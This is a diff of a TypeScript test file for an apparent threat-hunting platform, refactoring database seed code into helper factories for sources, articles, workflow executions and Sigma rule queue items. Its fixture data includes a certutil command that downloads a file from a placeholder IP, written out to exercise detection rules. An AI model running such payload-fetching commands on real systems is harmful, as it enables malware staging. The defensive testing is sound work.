@@ -9,7 +9,14 @@ import { MCP_HIGH_RISK_TOOLS, MCP_LOW_RISK_TOOLS, MCP_READ_TOOLS } from '@huntfo
 import { createDb, migrateDb, type Db } from '@huntforge/data';
 import { createHttpApp, finalizeHttpApp } from '@huntforge/platform';
 import { createMcpModule, hashToken } from '@huntforge/service-mcp';
-import { createTestContext, type TestContext } from '@huntforge/service-testing';
+import {
+  createArticle,
+  createExecution,
+  createQueueItem,
+  createSource,
+  createTestContext,
+  type TestContext,
+} from '@huntforge/service-testing';
 import { analyseRuleText } from '@huntforge/sigma';
 import { repoRoot, runCli } from '../../test-support/processes';
 
@@ -32,29 +39,16 @@ level: high
 
 /** A little of everything the read tools look at, written straight to the database. */
 async function seed(db: Db): Promise<{ articleId: number; executionId: number; queueId: number }> {
-  const source = await db.prisma.source.create({
-    data: { identifier: 'stdio-src', name: 'Stdio Source', url: 'https://s.example.test/feed', kind: 'rss' },
+  const source = await createSource(db.prisma, { identifier: 'stdio-src', name: 'Stdio Source' });
+  const article = await createArticle(db.prisma, {
+    sourceId: source.id,
+    title: 'Attackers download tools with certutil',
+    content: 'The intruders ran certutil.exe -urlcache -split -f to fetch a loader.',
+    huntScore: 70,
   });
-  const article = await db.prisma.article.create({
-    data: {
-      sourceId: source.id,
-      canonicalUrl: 'https://s.example.test/a',
-      url: 'https://s.example.test/a',
-      title: 'Attackers download tools with certutil',
-      content: 'The intruders ran certutil.exe -urlcache -split -f to fetch a loader.',
-      contentHash: 'stdio-hash',
-      simhash: 7n,
-      simhashBands: [7],
-      huntScore: 70,
-    },
-  });
-  const execution = await db.prisma.workflowExecution.create({
-    data: {
-      articleId: article.id,
-      status: 'completed',
-      configSnapshot: {},
-      corpusCoverage: { corpus_rules: 1, covered: [], uncovered: ['cmdline: certutil -urlcache -f http://198.51.100.2/a a'] },
-    },
+  const execution = await createExecution(db.prisma, article.id, {
+    status: 'completed',
+    corpusCoverage: { corpus_rules: 1, covered: [], uncovered: ['cmdline: certutil -urlcache -f http://198.51.100.2/a a'] },
   });
   const analysed = analyseRuleText(RULE);
   if (!analysed.ok) throw new Error(analysed.reason);
@@ -73,8 +67,10 @@ async function seed(db: Db): Promise<{ articleId: number; executionId: number; q
       },
     },
   });
-  const queued = await db.prisma.sigmaQueueItem.create({
-    data: { ruleYaml: RULE, title: 'Certutil Download (generated)', workflowExecutionId: execution.id },
+  const queued = await createQueueItem(db.prisma, {
+    ruleYaml: RULE,
+    title: 'Certutil Download (generated)',
+    workflowExecutionId: execution.id,
   });
   return { articleId: article.id, executionId: execution.id, queueId: queued.id };
 }
